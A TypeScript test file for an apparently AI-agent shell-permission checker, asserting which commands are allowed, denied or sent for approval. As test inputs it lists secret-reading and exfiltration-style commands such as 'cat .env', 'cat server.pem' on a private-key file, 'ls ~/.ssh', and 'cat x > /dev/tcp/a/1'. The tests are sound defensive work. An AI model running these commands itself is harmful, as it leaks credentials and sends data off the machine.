import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { bash, decide, project } from "../kit.js";

let world: Awaited<ReturnType<typeof project>>;
beforeAll(async () => {
  world = await project();
});
afterAll(() => world.close());

const ALL = { allow: ["Bash(*)"] };

test.each([
  ["cat .env", {}, 'reads "'],
  ["echo x > src/b", {}, "no file rule allows"],
  ["cat ../outside/x", {}, "reads outside the workspace"],
  ["cat x > /dev/tcp/a/1", ALL, "opens a connection"],
  ["echo x > ../outside/y", ALL, "writes outside the workspace"],
  ["cat out/../../x", {}, "reads outside the workspace"],
])("%s asks, and says why", async (line, rules, reason) => {
  expect(await decide({ workspace: world.workspace, rules }, bash(line))).toMatchObject({
    behavior: "ask",
    reason: expect.stringContaining(reason),
  });
});

test.each([
  ["ls -l server.pem", "allow"],
  ["openssl x509 -in server.pem -noout -subject", "allow"],
  ["openssl x509 -in missing.pem", "allow"],
  ["cat server.pem", "deny"],
  ["wc -c server.pem", "deny"],
  ["ls ~/.ssh", "ask"],
  ["git ls-files server.pem", "allow"],
  ["git check-ignore -v server.pem", "allow"],
  ["ls -l .env", "allow"],
  ["stat -c %y .env", "allow"],
  ["ls .env | xargs cat", "ask"],
  ["find .env -type f", "ask"],
])("the name of a key in the workspace is no secret: %s → %s", async (line, behavior) => {
  writeFileSync(join(world.root, "server.pem"), "-----BEGIN PRIVATE KEY-----\n");
  expect(await decide({ workspace: world.workspace }, bash(line))).toMatchObject({ behavior });
});

test.each(["echo /etc/*", "printf '%s\\n' ../*", "true /etc/*"])("%s lists names outside, so it asks", async (line) => {
  expect(await decide({ workspace: world.workspace }, bash(line))).toMatchObject({
    behavior: "ask",
    reason: expect.stringContaining("reads outside the workspace"),
  });
});
